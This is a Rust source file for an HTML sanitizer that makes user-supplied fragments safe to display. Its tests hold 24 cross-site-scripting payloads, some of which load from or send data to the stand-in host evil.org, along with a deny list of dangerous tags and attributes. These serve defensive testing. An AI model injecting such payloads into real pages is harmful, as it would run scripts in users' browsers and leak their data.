//! HTML from outside, made safe.

mod cleaner;
mod head;
mod policy;
mod read;
mod split;
mod tags;
mod tree;

pub(crate) use cleaner::Cleaner;
pub(crate) use read::read;
pub(crate) use split::{blocks, is_blank};
pub(crate) use tags::{Tag, next_tag};

/// Makes a fragment of HTML safe to show: text, lists, tables, code; links to `http`, `https`, `mailto` and relative
/// addresses with `rel="nofollow noopener"`; no pictures, scripts, styles, forms or frames.
pub fn clean(fragment: &str) -> String {
    policy::for_answers().clean(fragment).to_string()
}

/// The text of safe HTML, with a line for each item and row.
pub(crate) fn text_of(safe_html: &str) -> String {
    tree::text(&tree::parse(safe_html))
}

#[cfg(test)]
mod tests {
    use super::clean;

    /// Ways to smuggle a script past a filter, after the OWASP and Cure53 collections.
    pub(crate) const ATTACKS: [&str; 24] = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.org/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"http://evil.org/?d=secret\">",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\" data:text/html,<script>alert(1)</script>\">x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<form action=//evil.org><input name=p autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>",
        "<style>@import 'http://evil.org/x.css'</style>",
        "<p style=\"background:url(http://evil.org/)\" onclick=alert(1)>x</p>",
        "<base href=\"http://evil.org/\">",
        "<meta http-equiv=refresh content=\"0;url=http://evil.org\">",
        "<object data=x.swf></object><embed src=x>",
        "<link rel=stylesheet href=http://evil.org>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<p id=\"b1\" class=\"rail\" name=x>x</p><details ontoggle=alert(1) open>",
        "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    ];

    /// Whether nothing in `html` can run, load or imitate the page around it.
    pub(crate) fn is_inert(html: &str) -> bool {
        let mut at = 0;
        while let Some((_, tag, end)) = super::next_tag(html, at) {
            let banned = [
                "script",
                "style",
                "iframe",
                "svg",
                "math",
                "form",
                "input",
                "button",
                "object",
                "embed",
                "link",
                "meta",
                "base",
                "template",
                "noscript",
                "video",
                "audio",
                "source",
                "foreignobject",
            ];
            let bad_attribute = tag.attributes().any(|(name, value)| {
                let value = crate::escape::unescape(value).to_lowercase();
                name.starts_with("on")
                    || ["style", "id", "name", "srcset", "srcdoc", "formaction"].contains(&name)
                    || name == "class" && !value.starts_with("language-")
                    || ["javascript:", "data:", "vbscript:"].iter().any(|scheme| value.trim_start().starts_with(scheme))
                    || name == "src" && !value.starts_with("file:") && !value.starts_with("picture:")
            });
            if banned.contains(&tag.name) || bad_attribute {
                return false;
            }
            at = end;
        }
        true
    }

    #[test]
    fn the_check_itself_sees_attacks() {
        let seen = ATTACKS.iter().filter(|attack| !is_inert(attack)).count();
        assert!(seen >= 20, "only {seen} of the raw attacks are seen");
    }

    #[test]
    fn nothing_runs() {
        for attack in ATTACKS {
            let cleaned = clean(attack);
            assert!(is_inert(&cleaned), "{attack} became {cleaned}");
            assert!(!cleaned.contains("<img"), "{attack} became {cleaned}");
        }
    }

    #[test]
    fn no_mixture_of_attacks_runs() {
        let pieces: Vec<char> = ATTACKS.concat().chars().collect();
        let cleaner = super::Cleaner::new("a.html");
        let mut state = 7_usize;
        // A linear congruential generator: the same mixtures in each run.
        let mut next = |below: usize| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) % below
        };
        for _ in 0..400 {
            let mut mixture = String::new();
            for _ in 0..6 {
                let start = next(pieces.len());
                let end = (start + 1 + next(60)).min(pieces.len());
                mixture.extend(&pieces[start..end]);
            }
            for html in [clean(&mixture), cleaner.clean(&mixture), crate::markdown::to_html(&mixture)] {
                assert!(is_inert(&html), "{mixture} became {html}");
            }
        }
    }

    #[test]
    fn keeps_what_people_write() {
        assert_eq!(
            clean(
                "<h2>A</h2><p>b <a href=\"https://x.org/?a=1&amp;b=2\">c</a></p><table><tr><td colspan=2>d</td></tr></table>"
            ),
            "<h2>A</h2><p>b <a href=\"https://x.org/?a=1&amp;b=2\" rel=\"nofollow noopener\">c</a></p>\
             <table><tbody><tr><td colspan=\"2\">d</td></tr></tbody></table>"
        );
    }
}
